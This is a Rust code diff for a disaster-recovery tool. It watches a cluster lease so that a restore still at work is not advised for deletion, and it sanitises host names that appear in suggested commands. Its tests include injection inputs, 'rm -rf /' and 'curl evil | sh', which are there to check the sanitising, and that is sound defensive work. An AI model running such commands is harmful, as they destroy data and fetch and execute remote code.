@@ -4,7 +4,7 @@
 //! not been proved. Whoever starts the application on it has data that the run then takes away.
 
 use super::table::{leaves_half_done, resumable};
-use crate::cluster::{ClusterError, Database, lease_name};
+use crate::cluster::{Cluster, ClusterError, Database, lease_name};
 use crate::error::{OpenRun, Result, WayOut};
 use crate::journal::{Remains, Run, RunStore, ended};
 use crate::names::NamespaceName;
@@ -29,12 +29,33 @@ pub async fn half_done(ctx: &Ctx) -> Result<Option<OpenRun>> {
     }
     // Without a cluster nothing is changed.
     let Ok(cluster) = ctx.cluster().await else { return Ok(None) };
-    let holder = cluster.lease_holder(&lease_name(&ctx.install().release)).await?;
-    if let Some(open) = holder.and_then(|held| open_by_lease(&*ctx.runs, &ctx.who, &held)) {
+    if let Some(open) = by_lease(ctx, cluster).await? {
         return Ok(Some(open));
     }
     // Whatever its name: this host's settings may not be those of the bundle.
     Ok(cluster.databases().await?.iter().find_map(left_unproved))
+}
+
+/// The run that only the lease on the install tells of. One look does not tell a run that is at work from one that died,
+/// and what is advised for the one would destroy what the other is making: so the lease is watched.
+async fn by_lease(ctx: &Ctx, cluster: &Cluster) -> Result<Option<OpenRun>> {
+    let name = lease_name(&ctx.install().release);
+    let Some(held) = cluster.lease_holder(&name).await? else { return Ok(None) };
+    let Some(open) = open_by_lease(&*ctx.runs, &ctx.who, &held) else { return Ok(None) };
+    let may_live = matches!(open.way_out, WayOut::Elsewhere(_) | WayOut::Lost);
+    if !may_live || !cluster.lease_moves(&name, &held, &ctx.events).await? {
+        return Ok(Some(open));
+    }
+    // It may have come to its end meanwhile.
+    let Some(held) = cluster.lease_holder(&name).await? else { return Ok(None) };
+    Ok(open_by_lease(&*ctx.runs, &ctx.who, &held).map(|open| at_work(open, &held)))
+}
+
+fn at_work(open: OpenRun, held: &ClusterError) -> OpenRun {
+    match held {
+        ClusterError::Held { host, .. } => OpenRun { way_out: WayOut::AtWork(word_of(host)), ..open },
+        _ => open,
+    }
 }
 
 /// The aborted restore since which nothing proves what is in the database.
@@ -63,6 +84,11 @@ pub(super) async fn leaves_unproved(ctx: &Ctx, remains: &Remains) -> Result<Vec<
 fn id_of(text: &str) -> String {
     let word: String = text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect();
     if word.starts_with(|first: char| first.is_ascii_alphanumeric()) { word } else { "without a name".to_owned() }
+}
+
+/// `user@host`, in front of a command: no more of it than such a name can have.
+fn word_of(host: &str) -> String {
+    host.chars().filter(|c| c.is_ascii_alphanumeric() || "@._-".contains(*c)).take(LONGEST_ID).collect()
 }
 
 /// Refuses the install of `ctx` where it is half done.
@@ -110,7 +136,7 @@ fn open_by_lease(runs: &dyn RunStore, who: &str, held: &ClusterError) -> Option<
         // One whose first line is damaged tells nothing of itself: then its lease does.
         Some(stored) if Remains::of(&stored).is_some() => return None,
         _ if **host == *who => WayOut::Lost,
-        _ => WayOut::Elsewhere(host.to_string()),
+        _ => WayOut::Elsewhere(word_of(host)),
     };
     Some(OpenRun { run, step: None, way_out })
 }
@@ -171,6 +197,25 @@ mod tests {
     }
 
     #[test]
+    fn one_whose_lease_is_renewed_is_at_work_and_nothing_is_advised_that_would_destroy_what_it_makes() {
+        let open = OpenRun { way_out: WayOut::Lost, ..OpenRun::new("restore-1".into(), None) };
+        let held = ClusterError::Held {
+            lease: "dr-opschain".into(),
+            holder: "restore-1".into(),
+            host: "op@here".into(),
+            since: Some(AT),
+            renewed: AT,
+            lasts: std::time::Duration::from_secs(60),
+        };
+        let open = at_work(open, &held);
+        let error = open.half_done("ops/opschain");
+        assert!(error.message().ends_with("run restore-1 of op@here is at work on it"), "{error}");
+        assert!(error.hints().iter().all(|hint| !hint.contains("delete")), "{:?}", error.hints());
+        assert_eq!(open.next("ops"), "as op@here, until it has ended: dr run show restore-1");
+        assert!(open.ways_on().is_empty());
+    }
+
+    #[test]
     fn a_lease_tells_of_a_restore_that_no_journal_tells_of_and_of_no_other_run() {
         let runs = MemoryRuns::default();
         run(&runs, "restore-here", "restore", Record::Ended { outcome: Outcome::Aborted, at: AT });
@@ -192,6 +237,7 @@ mod tests {
         run(&runs, "restore-damaged", "restore", started());
         runs.set("restore-damaged", "{\"rec\n");
         assert!(elsewhere("restore-damaged").is_some(), "nothing here tells what it was");
+        assert_eq!(word_of("op@there; rm -rf /"), "op@thererm-rf");
         let evil = elsewhere("restore-1 --yes; curl evil | sh #").unwrap();
         assert_eq!(evil.run, "restore-1--yescurlevilsh");
     }
